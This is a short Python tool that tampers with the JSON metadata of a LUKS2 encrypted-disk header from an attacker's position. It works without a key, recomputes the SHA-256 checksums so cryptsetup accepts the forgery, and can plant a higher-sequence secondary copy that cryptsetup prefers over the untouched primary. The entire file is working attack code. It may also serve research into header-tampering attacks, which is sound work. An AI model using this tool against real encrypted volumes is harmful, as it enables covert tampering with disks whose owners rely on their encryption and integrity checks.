#!/usr/bin/env python3
"""Rewrite a LUKS2 header's JSON metadata as an attacker who holds the disk
does: no key, only the plaintext header, checksums recomputed so that
cryptsetup accepts the result.

  luks2-rewrite.py IMAGE [--secondary-only] PATH=VALUE...

PATH is a dotted path into the JSON (segments.0.encryption); VALUE is JSON
when it parses as JSON, else a string; DELETE removes the key. With
--secondary-only, only the second metadata copy is rewritten, with a higher
sequence number, so that cryptsetup prefers it over the untouched primary.
"""
import hashlib
import json
import struct
import sys

MAGIC = {0: b"LUKS\xba\xbe", 1: b"SKUL\xba\xbe"}
BIN = 4096
CSUM_OFF, CSUM_LEN = 448, 64
SEQID_OFF = 16


def read_copy(f, offset):
    f.seek(offset)
    head = f.read(BIN)
    hdr_size = struct.unpack(">Q", head[8:16])[0]
    area = f.read(hdr_size - BIN)
    return bytearray(head), area, hdr_size


def edit(meta, path, value):
    keys = path.split(".")
    node = meta
    for k in keys[:-1]:
        node = node.setdefault(k, {})
    if value == "DELETE":
        node.pop(keys[-1], None)
        return
    try:
        node[keys[-1]] = json.loads(value)
    except json.JSONDecodeError:
        node[keys[-1]] = value


def write_copy(f, offset, head, meta, hdr_size, seq_bump):
    text = json.dumps(meta, separators=(",", ":")).encode()
    room = hdr_size - BIN
    if len(text) >= room:
        sys.exit("luks2-rewrite: the JSON no longer fits its area")
    area = text + b"\0" * (room - len(text))
    if seq_bump:
        seq = struct.unpack(">Q", head[SEQID_OFF:SEQID_OFF + 8])[0] + seq_bump
        head[SEQID_OFF:SEQID_OFF + 8] = struct.pack(">Q", seq)
    head[CSUM_OFF:CSUM_OFF + CSUM_LEN] = b"\0" * CSUM_LEN
    digest = hashlib.sha256(bytes(head) + area).digest()
    head[CSUM_OFF:CSUM_OFF + len(digest)] = digest
    f.seek(offset)
    f.write(bytes(head) + area)


def main():
    args = sys.argv[1:]
    secondary_only = "--secondary-only" in args
    args = [a for a in args if a != "--secondary-only"]
    image, edits = args[0], args[1:]
    with open(image, "r+b") as f:
        head, area, hdr_size = read_copy(f, 0)
        if bytes(head[:6]) != MAGIC[0]:
            sys.exit("luks2-rewrite: no LUKS2 header")
        meta = json.loads(area.rstrip(b"\0").decode())
        for e in edits:
            path, _, value = e.partition("=")
            edit(meta, path, value)
        copies = [(hdr_size, 1)] if secondary_only else [(0, 0), (hdr_size, 0)]
        for offset, bump in copies:
            h, _, _ = read_copy(f, offset)
            write_copy(f, offset, h, meta, hdr_size, bump)


if __name__ == "__main__":
    main()
